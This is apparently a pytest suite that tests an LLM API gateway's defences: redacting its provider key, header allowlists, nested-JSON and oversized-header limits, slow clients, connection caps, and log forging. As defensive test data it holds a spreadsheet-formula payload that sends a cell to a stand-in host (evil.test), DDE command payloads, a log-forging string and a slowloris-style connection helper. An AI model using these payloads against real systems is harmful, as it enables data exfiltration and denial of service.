"""The gateway under attack: each test replays one finding of the attack on it (issue 15).

The provider here is ``echo``, a real HTTP server that does what a careless provider, or a
debugging proxy in front of one, might do: repeat the gateway's own credential back in an
error body, a response header or a stream, and record the headers it was sent.
"""

from __future__ import annotations

import io
import json
import logging
import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import openai
import pytest
from aiohttp import web

from gateway.auth import hash_api_key
from gateway.model_names import UNKNOWN_MODEL_PREFIX, unknown_model_name
from gateway.routes import RoutesConfig
from tests.conftest import Providers
from tests.gateway_world import ACME_KEY, GatewayWorld, routes_for, start_gateway, wait_until
from tests.servers import AppServer
from tollgate.contract import Status
from tollgate.logs import JsonFormatter, TextFormatter
from tollgate.settings import KafkaSettings
from tollgate.topics import Topics

PROVIDER_SECRET = "sk-provider-SECRET-0123456789abcdef"
MESSAGES = [{"role": "user", "content": "hi"}]
FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Click for invoice")'


# -- the echoing provider ---------------------------------------------------------------------


def _completion(model: str, content: str) -> dict[str, Any]:
    return {
        "id": "chatcmpl-echo",
        "object": "chat.completion",
        "created": 0,
        "model": model,
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": content},
                "finish_reason": "stop",
            }
        ],
        "usage": {"prompt_tokens": 3, "completion_tokens": 2, "total_tokens": 5},
    }


def echo_provider(seen: list[dict[str, str]]) -> web.Application:
    """Answers by the model's name: ``echo-400``/``echo-500`` an error quoting the request's
    Authorization header, ``echo-stream`` a stream quoting it, anything else a 200 with
    the header echoed back in response headers."""

    async def chat(request: web.Request) -> web.StreamResponse:
        seen.append({name.lower(): value for name, value in request.headers.items()})
        payload = await request.json()
        model, auth = payload["model"], request.headers.get("authorization", "")
        if model.startswith(("echo-400", "echo-500")):
            status = int(model[5:8])
            return web.json_response(
                {"error": {"message": f"rejected; you sent {auth}", "type": "invalid"}},
                status=status,
            )
        if model.startswith("echo-stream"):
            response = web.StreamResponse(headers={"content-type": "text/event-stream"})
            await response.prepare(request)
            chunk = {
                "id": "c",
                "object": "chat.completion.chunk",
                "created": 0,
                "model": model,
                "choices": [{"index": 0, "delta": {"content": f"key={auth}"}}],
            }
            await response.write(f"data: {json.dumps(chunk)}\n\n".encode())
            await response.write(b"data: [DONE]\n\n")
            await response.write_eof()
            return response
        return web.json_response(
            _completion(model, "hello"),
            headers={
                "x-echo-auth": auth,
                "set-cookie": f"session={auth}",
                "x-request-id": f"req-{auth}",
                "x-debug-upstream": "internal-host:8443",
            },
        )

    app = web.Application()
    app.router.add_post("/v1/chat/completions", chat)
    return app


@pytest.fixture
def echo() -> Iterator[tuple[AppServer, list[dict[str, str]]]]:
    seen: list[dict[str, str]] = []
    server = AppServer(lambda: echo_provider(seen)).start()
    yield server, seen
    server.stop()


def echo_routes(echo_url: str, openai_url: str) -> RoutesConfig:
    return RoutesConfig.model_validate(
        {
            "backends": [
                {"name": "echo", "kind": "openai", "base_url": echo_url, "api_key_env": "ECHO"},
                {"name": "openai-0", "kind": "openai", "base_url": openai_url},
            ],
            "models": {"echo-*": ["echo"], "gpt-4o-mini": ["openai-0"]},
            "auth": {
                "api_keys": [
                    {"id": "acme-app", "key_sha256": hash_api_key(ACME_KEY), "tenant": "acme"}
                ]
            },
        }
    )


@pytest.fixture
def echo_world(
    kafka_settings: KafkaSettings,
    broker: str,
    topics: Topics,
    providers: Providers,
    echo: tuple[AppServer, list[dict[str, str]]],
    tmp_path: Path,
) -> Iterator[GatewayWorld]:
    world = start_gateway(
        kafka_settings,
        broker,
        topics,
        echo_routes(echo[0].url, providers.primary.base_url),
        tmp_path / "spool",
        secrets={"echo": PROVIDER_SECRET},
    )
    yield world
    world.stop()


def client(gateway: GatewayWorld, **options: Any) -> openai.OpenAI:
    return openai.OpenAI(base_url=f"{gateway.url}/v1", api_key=ACME_KEY, max_retries=0, **options)


# -- 1. caller text in the lake ---------------------------------------------------------------


def test_a_model_no_route_knows_is_stored_as_a_bounded_hash_not_as_sent(
    gateway: GatewayWorld,
) -> None:
    for name in (FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"):
        with pytest.raises(openai.NotFoundError) as raised:
            client(gateway).chat.completions.create(model=name, messages=MESSAGES)
        event = gateway.event_for(raised.value.response.headers["x-tollgate-request-id"])
        assert event.status is Status.REJECTED_INVALID
        assert event.request_model == unknown_model_name(name)
        assert re.fullmatch(UNKNOWN_MODEL_PREFIX + "[0-9a-f]{12}", event.request_model)


# -- 2. the provider's credential never reaches the client ------------------------------------


def test_a_provider_error_echoing_the_gateways_key_reaches_the_client_redacted(
    echo_world: GatewayWorld,
) -> None:
    with pytest.raises(openai.BadRequestError) as raised:
        client(echo_world).chat.completions.create(model="echo-400", messages=MESSAGES)
    body = raised.value.response.text
    assert PROVIDER_SECRET not in body
    assert "rejected; you sent Bearer [redacted]" in body  # the provider's error, as written


def test_the_last_5xx_echoing_the_key_is_passed_on_redacted(echo_world: GatewayWorld) -> None:
    with pytest.raises(openai.InternalServerError) as raised:
        client(echo_world).chat.completions.create(model="echo-500", messages=MESSAGES)
    assert PROVIDER_SECRET not in raised.value.response.text
    assert "[redacted]" in raised.value.response.text


def test_response_headers_pass_by_allowlist_and_never_carry_the_key(
    echo_world: GatewayWorld,
) -> None:
    raw = client(echo_world).chat.completions.with_raw_response.create(
        model="echo-200", messages=MESSAGES
    )
    headers = {name.lower(): value for name, value in raw.headers.items()}
    assert "x-echo-auth" not in headers
    assert "set-cookie" not in headers
    assert "x-debug-upstream" not in headers
    assert headers["x-request-id"] == "req-Bearer [redacted]"  # allowed, and redacted
    assert all(PROVIDER_SECRET not in value for value in headers.values())
    assert raw.parse().choices[0].message.content == "hello"


def test_a_stream_echoing_the_key_is_redacted(echo_world: GatewayWorld) -> None:
    stream = client(echo_world).chat.completions.create(
        model="echo-stream", messages=MESSAGES, stream=True
    )
    text = "".join(chunk.choices[0].delta.content or "" for chunk in stream if chunk.choices)
    assert text == "key=Bearer [redacted]"


# -- 10. request headers reach the provider by allowlist ---------------------------------------


def test_request_headers_reach_the_provider_by_allowlist(
    echo_world: GatewayWorld, echo: tuple[AppServer, list[dict[str, str]]]
) -> None:
    sent = {
        "Forwarded": "for=203.0.113.9;host=evil.test",
        "X-Forwarded-Host": "evil.test",
        "X-Forwarded-For": "203.0.113.9",
        "X-Real-IP": "203.0.113.9",
        "Via": "1.1 evil",
        "Cookie": "session=abc",
        "X-Internal-Route": "admin",
    }
    client(echo_world).chat.completions.create(
        model="echo-200", messages=MESSAGES, extra_headers=sent
    )
    received = {name.lower() for name in echo[1][-1]}
    assert not received & {name.lower() for name in sent}
    assert {"content-type", "user-agent", "x-stainless-lang"} <= received
    assert echo[1][-1]["authorization"] == f"Bearer {PROVIDER_SECRET}"


def test_expect_from_the_client_does_not_reach_the_provider(
    echo_world: GatewayWorld, echo: tuple[AppServer, list[dict[str, str]]]
) -> None:
    body = json.dumps({"model": "echo-200", "messages": MESSAGES}).encode()
    head = (
        "POST /v1/chat/completions HTTP/1.1\r\n"
        f"Host: 127.0.0.1\r\nAuthorization: Bearer {ACME_KEY}\r\n"
        "Content-Type: application/json\r\nExpect: 100-continue\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    )
    answer = _exchange(echo_world, head.encode() + body)
    assert b" 200 OK" in answer
    assert "expect" not in {name.lower() for name in echo[1][-1]}


def test_headers_the_operator_names_are_forwarded_too(
    kafka_settings: KafkaSettings,
    broker: str,
    topics: Topics,
    providers: Providers,
    echo: tuple[AppServer, list[dict[str, str]]],
    tmp_path: Path,
) -> None:
    world = start_gateway(
        kafka_settings,
        broker,
        topics,
        echo_routes(echo[0].url, providers.primary.base_url),
        tmp_path / "spool",
        read=False,
        forward_headers=("X-Team-Trace",),
    )
    try:
        client(world).chat.completions.create(
            model="echo-200", messages=MESSAGES, extra_headers={"x-team-trace": "t-1"}
        )
        assert echo[1][-1]["x-team-trace"] == "t-1"
    finally:
        world.stop()


# -- 3. deeply nested JSON ---------------------------------------------------------------------


def test_json_nested_100k_levels_deep_is_a_400_and_no_error_log(
    gateway: GatewayWorld, caplog: pytest.LogCaptureFixture
) -> None:
    depth = 100_000
    body = b'{"model":"gpt-4o-mini","messages":' + b"[" * depth + b"]" * depth + b"}"
    with caplog.at_level(logging.WARNING):
        response = httpx.post(
            f"{gateway.url}/v1/chat/completions",
            content=body,
            headers={"authorization": f"Bearer {ACME_KEY}", "content-type": "application/json"},
            timeout=10,
        )
    assert response.status_code == 400
    assert response.json()["error"]["type"] == "invalid_request_error"
    assert "nested too deeply" in response.json()["error"]["message"]
    event = gateway.event_for(response.headers["x-tollgate-request-id"])
    assert event.status is Status.REJECTED_INVALID
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


# -- 4. oversized headers ----------------------------------------------------------------------


def _exchange(gateway: GatewayWorld, data: bytes, timeout_s: float = 10) -> bytes:
    """Send ``data`` on a new connection; everything the gateway answers until it closes."""
    with socket.create_connection(("127.0.0.1", gateway.server.port), timeout=timeout_s) as sock:
        sock.sendall(data)
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


def test_an_oversized_header_is_a_431_that_neither_echoes_nor_logs_the_credential(
    gateway: GatewayWorld, caplog: pytest.LogCaptureFixture
) -> None:
    credential = "Bearer sk-acme-CREDENTIAL-" + "x" * 9000
    request = (
        "POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        f"Authorization: {credential}\r\nContent-Length: 0\r\n\r\n"
    ).encode()
    with caplog.at_level(logging.DEBUG):
        answer = _exchange(gateway, request)
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.split()[1] == b"431"
    assert json.loads(body)["error"]["type"] == "invalid_request_error"
    assert b"sk-acme" not in answer
    assert b"Bearer" not in answer
    assert not [r for r in caplog.records if "sk-acme" in r.getMessage() or r.exc_info]
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


def test_bytes_that_are_not_http_get_a_400_in_openais_format(gateway: GatewayWorld) -> None:
    answer = _exchange(gateway, b"GET / HTTP/1.1\r\nHost: x\r\nBad Header: sk-secret\r\n\r\n")
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.split()[1] == b"400"
    assert b"sk-secret" not in answer
    assert json.loads(body)["error"]["message"] == "the request is not valid HTTP"


# -- 5. slow clients ---------------------------------------------------------------------------


class SlowClients:
    """Connections that send a request head one byte every ``gap_s``, never finishing."""

    def __init__(self, port: int, count: int, gap_s: float = 0.2) -> None:
        self.sockets = [
            socket.create_connection(("127.0.0.1", port), timeout=5) for _ in range(count)
        ]
        self.closed_by_server = [False] * count
        self.answers = [b""] * count
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._trickle, args=(gap_s,), daemon=True)
        self._thread.start()

    def _trickle(self, gap_s: float) -> None:
        head = b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 10_000
        for position in range(len(head)):
            if self._stop.wait(gap_s):
                return
            for i, sock in enumerate(self.sockets):
                if self.closed_by_server[i]:
                    continue
                try:
                    sock.setblocking(False)
                    try:
                        data = sock.recv(65536)
                        self.answers[i] += data
                        if data == b"":
                            self.closed_by_server[i] = True
                            continue
                    except BlockingIOError:
                        pass
                    sock.sendall(head[position : position + 1])
                except OSError:
                    self.closed_by_server[i] = True

    def all_closed(self) -> bool:
        return all(self.closed_by_server)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        for sock in self.sockets:
            sock.close()


@pytest.fixture
def guarded_gateway(
    kafka_settings: KafkaSettings, broker: str, topics: Topics, providers: Providers, tmp_path: Path
) -> Iterator[GatewayWorld]:
    routes = routes_for([providers.primary.base_url], providers.claude.base_url)
    world = start_gateway(
        kafka_settings,
        broker,
        topics,
        routes,
        tmp_path / "spool",
        read=False,
        idle_timeout_s=1.0,
        body_timeout_s=1.0,
        max_connections=40,
    )
    yield world
    world.stop()


def test_slow_clients_are_cut_off_while_valid_calls_still_succeed(
    guarded_gateway: GatewayWorld,
) -> None:
    slow = SlowClients(guarded_gateway.server.port, 30)
    try:
        sdk = client(guarded_gateway, timeout=10)
        for _ in range(10):  # served alongside the slow ones
            assert sdk.chat.completions.create(model="gpt-4o-mini", messages=MESSAGES).choices
        assert wait_until(slow.all_closed, timeout_s=20), "slow clients were held open"
        assert not any(slow.answers)  # closed without a word: they never sent a request
        for _ in range(5):
            assert sdk.chat.completions.create(model="gpt-4o-mini", messages=MESSAGES).choices
    finally:
        slow.close()


def test_a_call_slower_than_the_idle_timeout_is_not_cut(
    guarded_gateway: GatewayWorld, providers: Providers
) -> None:
    providers.primary.configure(latency_ms=1500)  # idle timeout 1 s, backend timeout 2 s
    sdk = client(guarded_gateway, timeout=10)
    assert sdk.chat.completions.create(model="gpt-4o-mini", messages=MESSAGES).choices
    stream = sdk.chat.completions.create(model="gpt-4o-mini", messages=MESSAGES, stream=True)
    assert "".join(c.choices[0].delta.content or "" for c in stream if c.choices)


def test_connections_past_the_cap_get_a_clear_503_and_calls_resume_after(
    guarded_gateway: GatewayWorld,
) -> None:
    holders = [
        socket.create_connection(("127.0.0.1", guarded_gateway.server.port)) for _ in range(40)
    ]
    try:
        runner = guarded_gateway.server.runner
        assert runner is not None
        assert runner.server is not None
        server = runner.server
        assert wait_until(
            lambda: guarded_gateway.server.call(lambda: len(server.connections)) >= 40
        )
        answer = _exchange(guarded_gateway, b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        head, _, body = answer.partition(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 503")
        assert json.loads(body)["error"]["code"] == "too_many_connections"
    finally:
        for sock in holders:
            sock.close()
    sdk = client(guarded_gateway, timeout=10)

    def served() -> bool:
        try:
            return bool(sdk.chat.completions.create(model="gpt-4o-mini", messages=MESSAGES).choices)
        except openai.APIStatusError:
            return False

    assert wait_until(served, timeout_s=10)


def test_a_body_that_trickles_is_a_408(guarded_gateway: GatewayWorld) -> None:
    with socket.create_connection(("127.0.0.1", guarded_gateway.server.port), timeout=10) as sock:
        sock.sendall(
            b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n"
            + f"Authorization: Bearer {ACME_KEY}\r\n".encode()
            + b"Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"
        )
        answer = b""
        while not answer.endswith(b"}}"):  # the whole JSON error; the gateway then closes
            answer += sock.recv(65536)
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 408")
    assert b"Connection: close" in head
    assert json.loads(body)["error"]["code"] == "request_timeout"


# -- 6. metric labels --------------------------------------------------------------------------


def test_token_metrics_are_labelled_by_route_not_by_the_callers_model_name(
    echo_world: GatewayWorld,
) -> None:
    for i in range(30):
        client(echo_world).chat.completions.create(model=f"echo-{i}-{FORMULA}", messages=MESSAGES)
    metrics = httpx.get(f"{echo_world.url}/metrics", timeout=10).text
    labels = set(re.findall(r'tollgate_gateway_tokens_total\{[^}]*model="([^"]*)"', metrics))
    assert labels == {"echo-*"}
    assert 'direction="input",model="echo-*"} 90.0' in metrics


# -- 8. log forging ----------------------------------------------------------------------------


@pytest.mark.parametrize("formatter", [TextFormatter(), JsonFormatter()], ids=["text", "json"])
def test_a_model_name_with_a_newline_cannot_forge_a_log_line(
    echo_world: GatewayWorld, formatter: logging.Formatter
) -> None:
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(formatter)
    gateway_log = logging.getLogger("tollgate.gateway")
    level = gateway_log.level
    gateway_log.addHandler(handler)
    gateway_log.setLevel(logging.DEBUG)
    try:
        forged = "echo-ok\nERROR tollgate.gateway backend openai-0 credentials leaked\x1b[2J"
        client(echo_world).chat.completions.create(model=forged, messages=MESSAGES)
        assert wait_until(lambda: "echo-ok" in written.getvalue(), timeout_s=5)
    finally:
        gateway_log.removeHandler(handler)
        gateway_log.setLevel(level)
    lines = written.getvalue().splitlines()
    assert [line for line in lines if "echo-ok" in line]
    assert not [line for line in lines if "credentials leaked" in line and "echo-ok" not in line]
    assert "\x1b" not in written.getvalue()
